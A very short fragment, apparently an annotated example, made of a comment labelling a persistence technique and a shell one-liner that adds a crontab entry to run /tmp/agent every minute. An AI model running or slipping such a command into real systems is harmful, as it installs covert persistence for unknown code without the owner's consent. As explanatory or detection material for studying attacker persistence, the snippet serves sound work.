# shows: adds persistence
(crontab -l 2>/dev/null; echo "* * * * * /tmp/agent") | crontab -
